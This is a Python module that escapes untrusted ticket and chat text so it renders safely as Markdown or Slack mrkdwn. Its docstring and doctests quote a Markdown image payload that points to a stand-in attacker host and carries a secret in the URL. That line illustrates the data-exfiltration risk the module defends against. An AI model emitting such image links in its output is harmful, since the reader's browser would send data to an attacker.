"""Untrusted text (tickets, chat, drafts) made safe to show as Markdown or Slack mrkdwn.

Customers and users write subjects, bodies, names and goals. Shown as Markdown, an image
such as ``![x](https://evil.example/?q=secret)`` makes the reader's browser fetch that URL
(and so hand the attacker whatever the URL carries); raw HTML and links can do the same or
mislead. Every place that puts such text into Markdown or mrkdwn goes through here.

Example:
    >>> print(literal("![x](https://evil.example/?q=1)").replace(WORD_JOINER, "+"))
    \\!\\[x\\]\\(https+://evil.example/?q=1\\)
    >>> print(safe_markdown("**ok** ![x](https://x.example/a.png) <img>").replace(WORD_JOINER, "+"))
    **ok** !\\[x](https+://x.example/a.png) &lt;img>
"""

from __future__ import annotations

import re

# Characters that start images, links, HTML, entities, emphasis, code and table cells.
_MARKDOWN_SYNTAX = re.compile(r"([\\`*_\[\]()<>!|~&#])")
# GFM links bare "https://...", "www...." and "name@host" in the text it has already
# unescaped, so a backslash cannot stop it; an invisible word joiner before ":", "." or
# "@" does, and reads the same.
_BARE_LINK = re.compile(r"(?<=[A-Za-z])(?=://)|(?<=\bwww)(?=\.)|(?<=\w)(?=@)", re.IGNORECASE)
WORD_JOINER = "\u2060"
_LINE_BREAK = re.compile(r"\r\n|[\r\n\v\f\x1c-\x1e\x85\u2028\u2029]")
# Images and links both start with "["; HTML tags, comments and autolinks with "<x", "</", "<!".
# A "[" after an even number of backslashes (none included) is live; after an odd number it
# is already escaped, and escaping it again would turn "\\[" into an escaped backslash and a
# live bracket.
_LINK_START = re.compile(r"(?<!\\)((?:\\\\)*)\[")
_HTML_START = re.compile(r"<(?=[A-Za-z/!?])")
_BACKTICKS = re.compile(r"`+")


def literal(text: str) -> str:
    """Return ``text`` as Markdown that shows exactly these characters, on one line.

    Images, links, autolinks, HTML, emphasis and table pipes become plain characters, and
    line breaks become spaces, so the text cannot leave the heading or cell it is put in.
    """
    one_line = _LINE_BREAK.sub(" ", text)
    return _BARE_LINK.sub(WORD_JOINER, _MARKDOWN_SYNTAX.sub(r"\\\1", one_line))


def quoted(text: str, max_lines: int | None = None) -> str:
    """Return ``text`` as a Markdown block quote, each line shown literally."""
    lines = _LINE_BREAK.split(text)[:max_lines] or [""]
    return "\n".join("> " + literal(line) for line in lines)


def code_span(text: str) -> str:
    """Return ``text`` as an inline code span that no backtick inside can close early."""
    one_line = _LINE_BREAK.sub(" ", text)
    fence = "`" * (max((len(run) for run in _BACKTICKS.findall(one_line)), default=0) + 1)
    return f"{fence} {one_line} {fence}" if "`" in one_line else f"{fence}{one_line}{fence}"


def code_block(text: str, language: str = "text") -> str:
    """Return ``text`` as a fenced code block that no backtick fence inside can close."""
    longest = max((len(run) for run in _BACKTICKS.findall(text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{language}\n{text}\n{fence}"


def safe_markdown(markdown: str) -> str:
    """Return Markdown the product wrote, which may quote untrusted text, with no image, link
    or HTML left: emphasis, lists, code and tables stay; nothing is fetched when shown."""
    unlinked = _BARE_LINK.sub(WORD_JOINER, _LINK_START.sub(r"\1\\[", markdown))
    return _HTML_START.sub("&lt;", unlinked)


def slack_text(text: str) -> str:
    """Return ``text`` for Slack mrkdwn: no links, mentions (``<!channel>``) or entities."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
